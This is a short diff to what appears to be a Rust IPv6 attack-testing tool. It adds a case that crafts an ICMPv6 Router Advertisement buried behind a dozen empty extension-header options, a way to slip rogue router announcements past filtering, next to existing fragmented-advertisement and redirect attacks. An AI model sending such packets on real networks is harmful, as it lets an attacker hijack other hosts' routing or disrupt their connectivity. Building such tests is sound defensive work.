@@ -202,6 +202,11 @@ pub fn routers() -> Vec<Attack> {
             let inside = [&frames::empty_options(ICMPV6)[..], &message].concat();
             in_fragments(s, 60, &inside, 16)
         }),
+        attack("an advertisement of a router behind many options", NEIGHBOUR, |s| {
+            let message = icmpv6(s.me.ip6, s.neighbour.ip6, ROUTER_ADVERTISEMENT, &router(s));
+            let options = [frames::empty_options(60).repeat(12), frames::empty_options(ICMPV6).to_vec()];
+            vec![s.packet6(60, &[options.concat(), message].concat())]
+        }),
         attack("a redirect", NEIGHBOUR, |s| {
             let body = [&s.token[..], &s.me.link_local.octets(), &s.far.ip6.octets()].concat();
             vec![s.nd(s.me.link_local, REDIRECT, &body)]
